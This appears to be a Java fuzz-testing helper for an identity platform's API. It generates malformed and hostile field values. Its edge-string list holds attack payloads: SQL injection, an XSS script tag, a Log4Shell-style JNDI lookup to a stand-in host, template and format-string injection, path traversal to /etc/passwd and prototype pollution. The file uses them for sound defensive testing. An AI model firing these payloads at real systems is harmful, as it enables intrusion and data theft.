package ua.social.identity.testing;

import com.fasterxml.jackson.databind.JsonNode;

import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;

/**
 * The hostile values the fuzz tests put into fields and parameters: wrong JSON types, nulls, boundary and huge
 * numbers, strings at and past their schema's limits up to 1 MB, unicode edge cases (combining marks, RTL
 * overrides, NUL, lone surrogates, non-characters), injection-shaped text, dates out of any calendar, deep
 * nesting. Schema-aware where the OpenAPI schema says more (enum, format, maxLength, minimum/maximum, maxItems).
 */
final class FuzzValues {

    /** A JSON text put into the body as it is (numbers no Java type holds, deep nesting). */
    record Raw(String json) {
    }

    /** A string whose UTF-8 is broken on purpose: written as these bytes, not as JSON text. */
    record InvalidUtf8(byte[] bytes) {
    }

    static final int MEGABYTE = 1 << 20;

    /** Text that has broken parsers, databases, logs and terminals before. */
    static final List<String> EDGE_STRINGS = List.of(
            "", " ", "\t\r\n", "a\u0000b", "\u0000", "\uD800", "\uDFFF\uD800x", "\u202Eтекст\u202C", "\u200F\u200E\u061C",
            "\uFEFFКоваль", "\u200B", "Коваль\u0301\u0301\u0301\u0301\u0301", "👩‍👩‍👧‍👦", "🇺🇦", "\uFFFF\uFFFE", "\u0085\u2028\u2029",
            "ʼ’'`", "Ґ'ЄЇІ", "ﬀ", "İı", "ß", "null", "undefined", "true", "0", "-1", "1e309", "NaN", "Infinity", "-0",
            "0x1F", "'; drop table client; --", "\" OR 1=1 --", "<script>alert(1)</script>", "${jndi:ldap://evil/a}",
            "{{7*7}}", "%s%s%n", "../../../etc/passwd", "..\\..\\", "\\", "\"", "{}", "[]", "%00", "%C3%28",
            "+999999999-12-31", "-999999999-01-01", "2024-02-30", "0000-01-01", "2024-13-01", "9999-12-31T23:59:60Z",
            "1970-01-01T00:00:00+25:00", "2024-01-01T00:00:00", "2024-01-01T00:00:00Z[Europe/Kyiv]", "1e3",
            "00000000-0000-0000-0000-000000000000", "not-a-uuid", "123e4567-e89b-12d3-a456-42661417400",
            "123e4567-e89b-12d3-a456-426614174000 ", "UA", "UA-99", "UA-9", "UA99999999999999999",
            "UA44000000000000000", "rsk_", "Bearer x");

    /** Integral and decimal numbers at and past every boundary a Java or SQL type has. */
    static final List<Object> EDGE_NUMBERS = List.of(0, -1, 1, Integer.MAX_VALUE, Integer.MIN_VALUE,
            (long) Integer.MAX_VALUE + 1, Long.MAX_VALUE, Long.MIN_VALUE, new Raw("9223372036854775808"),
            new Raw("-9223372036854775809"), new Raw("1e309"), new Raw("-1e309"), new Raw("1" + "0".repeat(400)),
            1.5, -0.5, new Raw("-0"), new Raw("0.0000000000000000000001"), new Raw("1E2"), 10737419, 2147483647.5);

    private static final String[] BLOCKS = {
            "абвгґдеєжзиіїйклмнопрстуфхцчшщьюяАБВГҐДЕЄЖЗИІЇЙ'ʼ-", "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ",
            "0123456789 .,;:!?()[]{}<>/\\|\"'`~@#$%^&*+=_-", "\u0000\u0001\u0007\u0008\u000B\u000C\u001B\u007F\u0085",
            "\u0300\u0301\u0302\u0308\u0327\u0489\u20DD", "\u202A\u202B\u202D\u202E\u2066\u2067\u2068\u2069\u200F",
            "שלוםمرحبا", "中文日本語한국어", "\uD83D\uDE00\uD83C\uDDFA\uD83C\uDDE6\u200D\uFE0F", "\uD800\uDBFF\uDC00\uDFFF",
            "\uFFFD\uFFFE\uFFFF\uFEFF\u200B\u2028\u2029"};

    private FuzzValues() {
    }

    /** A random string over a mix of scripts, controls, marks and broken surrogates. */
    static String randomText(Random r, int maxLength) {
        int n = r.nextInt(maxLength + 1);
        StringBuilder b = new StringBuilder(n);
        String block = BLOCKS[r.nextInt(BLOCKS.length)];
        for (int i = 0; i < n; i++) {
            if (r.nextInt(8) == 0) {
                block = BLOCKS[r.nextInt(BLOCKS.length)];
            }
            b.append(block.charAt(r.nextInt(block.length())));
        }
        return b.toString();
    }

    static <T> T pick(Random r, List<T> list) {
        return list.get(r.nextInt(list.size()));
    }

    /**
     * A string for a query, path or header parameter. At most a few hundred characters: a request line over 4 KB
     * (percent-encoded) is refused by the HTTP layer itself with a bare 414, before any of the platform's code.
     */
    static String parameter(Random r, JsonNode schema) {
        List<String> options = new ArrayList<>();
        options.add(pick(r, EDGE_STRINGS));
        options.add(randomText(r, 40));
        options.add(randomText(r, 120));
        options.add("я".repeat(r.nextInt(3) == 0 ? 300 : 100));
        Object n = pick(r, EDGE_NUMBERS);
        options.add(n instanceof Raw raw ? raw.json() : String.valueOf(n));
        String type = schema.path("type").asText("");
        if (schema.has("enum") && schema.get("enum").size() > 0) {
            String valid = schema.get("enum").get(r.nextInt(schema.get("enum").size())).asText();
            options.add(valid.toLowerCase());
            options.add(" " + valid + " ");
            options.add(valid + "\u0000");
            options.add(valid + "," + valid);
        }
        if (type.equals("integer") || type.equals("number")) {
            options.addAll(List.of("10737419", "2147483648", "99999999999999999999", "-2147483649", "1.5", "1e3", "0x10",
                    "٣", "１"));
        }
        String format = schema.path("format").asText("");
        if (format.startsWith("date")) {
            options.addAll(List.of("+999999999-12-31", "-999999999-01-01", "2024-02-30", "2024-1-1", "01.02.2024",
                    "2024-01-01T00:00:00Z", "1969-12-31"));
        }
        return pick(r, options);
    }

    /** A value for a body field of the given schema (may be null); {@code seedValue} is what the valid request had. */
    static Object field(Random r, JsonNode schema, Object seedValue) {
        String type = schema == null ? "" : schema.path("type").asText("");
        List<Object> options = new ArrayList<>();
        options.add(null);
        options.add(r.nextBoolean());
        options.add(pick(r, EDGE_NUMBERS));
        options.add(pick(r, EDGE_STRINGS));
        options.add(randomText(r, 200));
        options.add(new LinkedHashMap<>());
        options.add(new ArrayList<>());
        options.add(deep(r));
        if (r.nextInt(6) == 0) {
            options.add("Ж".repeat(MEGABYTE / 2));           // 1 MB of UTF-8
        }
        if (r.nextInt(4) == 0) {
            options.add(randomText(r, 10_000));
        }
        if (schema != null) {
            if (schema.has("enum") && schema.get("enum").size() > 0) {
                String valid = schema.get("enum").get(r.nextInt(schema.get("enum").size())).asText();
                options.addAll(List.of("NOT_A_CODE", valid.toLowerCase(), " " + valid, valid + "\u0000", List.of(valid)));
            }
            if (schema.has("maxLength")) {
                int max = schema.get("maxLength").asInt();
                options.add("ї".repeat(Math.min(max, MEGABYTE)));
                options.add("ї".repeat(Math.min(max + 1, MEGABYTE)));
                options.add("\uD83D\uDE00".repeat(Math.min(max / 2 + 1, MEGABYTE)));
            }
            if (schema.has("minLength")) {
                options.add("x".repeat(Math.max(0, schema.get("minLength").asInt() - 1)));
            }
            if (schema.has("minimum")) {
                options.add(schema.get("minimum").asLong() - 1);
            }
            if (schema.has("maximum")) {
                options.add(schema.get("maximum").asLong() + 1);
            }
            String format = schema.path("format").asText("");
            if (format.equals("date") || format.equals("date-time")) {
                options.addAll(List.of("+999999999-12-31", "-999999999-01-01", "2024-02-30", 20240101, "2024-01-01T25:00:00Z",
                        "9999-12-31", "0001-01-01", "2024-01-01T00:00:00+18:01", -62135596800L, new Raw("1e20")));
            }
            if (type.equals("array")) {
                List<Object> many = new ArrayList<>();
                Object element = seedValue instanceof List<?> l && !l.isEmpty() ? l.get(0) : "x";
                int count = schema.has("maxItems") ? schema.get("maxItems").asInt() + 1 : 10_000;
                for (int i = 0; i < Math.min(count, 10_000); i++) {
                    many.add(element);
                }
                options.add(many);
                List<Object> withNull = new ArrayList<>();
                withNull.add(null);
                options.add(withNull);
            }
        }
        return pick(r, options);
    }

    /** Arrays or objects nested deeper than any parser should follow. */
    static Raw deep(Random r) {
        int depth = pick(r, List.of(64, 1_001, 10_000, 100_000));
        return r.nextBoolean() ? new Raw("[".repeat(depth) + "]".repeat(depth))
                : new Raw("{\"a\":".repeat(depth) + "1" + "}".repeat(depth));
    }

    /** Whole bodies that are not the JSON object the operation expects. */
    static List<byte[]> malformedBodies(Random r, String validJson) {
        List<String> texts = new ArrayList<>(List.of("", " ", "{", "}", "{\"", "null", "[]", "[{}]", "0", "\"text\"", "true",
                "{\"a\":1,}", "{'a':1}", "{\"a\":NaN}", validJson + "x", validJson + validJson,
                validJson.substring(0, validJson.length() / 2), "\uFEFF" + validJson, validJson.replace(":", "="),
                "{\"__proto__\":{\"admin\":true}}", ((Raw) deep(r)).json()));
        List<byte[]> out = new ArrayList<>();
        texts.forEach(t -> out.add(t.getBytes(java.nio.charset.StandardCharsets.UTF_8)));
        out.add(new byte[]{(byte) 0xFF, (byte) 0xFE, '{', '}'});
        out.add(new byte[]{'{', 0, '}'});
        byte[] noise = new byte[r.nextInt(4096) + 1];
        r.nextBytes(noise);
        out.add(noise);
        return out;
    }

    /** UTF-8 that no decoder accepts: a lone continuation byte, an overlong slash, a truncated sequence, 0xFF. */
    static InvalidUtf8 invalidUtf8(Random r) {
        List<byte[]> bad = List.of(new byte[]{(byte) 0xC3, 0x28}, new byte[]{(byte) 0xC0, (byte) 0xAF},
                new byte[]{(byte) 0xE2, (byte) 0x82}, new byte[]{(byte) 0xFF}, new byte[]{(byte) 0xED, (byte) 0xA0, (byte) 0x80},
                new byte[]{(byte) 0x80, 'a'});
        byte[] b = pick(r, bad);
        byte[] out = new byte[b.length + 2];
        out[0] = 'x';
        System.arraycopy(b, 0, out, 1, b.length);
        out[out.length - 1] = 'y';
        return new InvalidUtf8(out);
    }

    /** Names of fields nobody declared, including ones that mean something elsewhere. */
    static String extraFieldName(Random r) {
        return pick(r, List.of("id", "hromada", "oblast", "createdAt", "version", "status", "__proto__", "constructor",
                "", "поле", "x".repeat(1000), randomText(r, 30), "a.b", "errors"));
    }

    /** A deep copy of a body tree, so a mutation never touches the seed. */
    @SuppressWarnings("unchecked")
    static Object copy(Object v) {
        if (v instanceof Map<?, ?> m) {
            Map<String, Object> out = new LinkedHashMap<>();
            ((Map<String, Object>) m).forEach((k, x) -> out.put(k, copy(x)));
            return out;
        }
        if (v instanceof List<?> l) {
            List<Object> out = new ArrayList<>();
            l.forEach(x -> out.add(copy(x)));
            return out;
        }
        return v;
    }
}
